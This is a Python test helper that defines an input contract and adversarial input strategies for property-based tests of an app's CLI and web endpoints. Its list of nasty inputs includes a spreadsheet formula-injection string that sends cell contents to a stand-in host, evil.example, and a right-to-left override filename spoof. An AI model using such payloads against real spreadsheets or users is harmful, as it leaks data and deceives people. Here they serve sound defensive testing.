"""The contract for everything that comes in, shared by the property tests.

Whatever a person types, sends or imports is either accepted and stored exactly, or refused
with one line (a 4xx with one sentence on the web) and nothing changed; never a traceback,
never a 500. ``Tally`` counts the inputs tried and refused per category; the counts are
printed at the end of the test run (see ``tests/conftest.py``).
"""

from __future__ import annotations

import json
from collections import Counter
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

# One line per input, appended by every test worker; read once at the end of the run.
TALLY_FILE = Path(__file__).parents[1] / ".pytest_cache" / "contract-tally.jsonl"


def count(category: str, *, accepted: bool) -> None:
    """One input tried in ``category``: accepted, or refused as the contract allows."""
    TALLY_FILE.parent.mkdir(exist_ok=True)
    with TALLY_FILE.open("a", encoding="utf-8") as handle:
        handle.write(json.dumps({"category": category, "accepted": accepted}) + "\n")


def summary() -> list[str]:
    if not TALLY_FILE.exists():
        return []
    tried: Counter[str] = Counter()
    refused: Counter[str] = Counter()
    for line in TALLY_FILE.read_text(encoding="utf-8").splitlines():
        item = json.loads(line)
        tried[item["category"]] += 1
        refused[item["category"]] += not item["accepted"]
    # Only inputs that kept the contract are counted: a broken one fails its test.
    return [
        f"{category:<24} tried {tried[category]:>5}, accepted and stored exactly "
        f"{tried[category] - refused[category]:>5}, refused cleanly {refused[category]:>5}"
        for category in sorted(tried)
    ]


# Words people write, and what an attacker or a broken encoding sends: brackets read as markup,
# direction overrides, half-characters, formula cells, control characters, huge text.
NASTY = [
    "Sam [work laptop]",
    "Ann [/]",
    "[bold]x[/bold] \\",
    ":smile: {movement}",
    "evil\u202eexe.txt",
    "\u2066isolated\u2069",
    "caf\udce9",
    "\ud800",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "@SUM(1+1)",
    "\t=1+1",
    "a\x00b",
    "bell\x07",
    "line\nbreak",
    "x" * 2001,
    "😀" * 50,
    "   ",
    "",
    "ünïcode ✓ 中文 العربية",
]

texts = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=300),
    st.text(st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF), min_size=1, max_size=3),
    st.text(st.sampled_from("[]/\\{}:=+-@\t\r\n\u202e\u2066 ab"), max_size=40),
)
numbers = st.one_of(
    st.integers(min_value=-20, max_value=20),
    st.integers(),
    st.sampled_from([2**31, 2**63, -(2**63), 10**30]),
    st.floats(),
    st.sampled_from([float("inf"), float("-inf"), float("nan"), 1e308, 5.5, 0.0, -0.0]),
)
days = st.one_of(
    st.dates().map(lambda day: day.isoformat()),
    st.sampled_from(["0001-01-01", "1899-12-31", "1900-01-01", "2999-01-01", "2026-02-30"]),
    texts,
)
json_values: st.SearchStrategy[Any] = st.one_of(
    texts, numbers, st.booleans(), st.none(), st.lists(st.integers(), max_size=3)
)


def as_json(value: Any) -> Any:
    """What a JSON file or body says the value is: ``json.dumps`` writes a surrogate pair as two
    escapes, which JSON reads back as the one character they make."""
    return json.loads(json.dumps(value))


def one_line(stderr: str) -> str:
    lines = stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), stderr
    assert "Traceback" not in stderr
    return lines[0]


def one_sentence(answer: Any) -> str:
    """A refusal from the web app: a 4xx with one sentence (never a 500)."""
    assert 400 <= answer.status_code < 500, (answer.status_code, answer.text[:300])
    if answer.headers.get("content-type", "").startswith("application/json"):
        detail = answer.json()["detail"]
        assert isinstance(detail, str) and detail and "\n" not in detail, detail
        return str(detail)
    return str(answer.text)
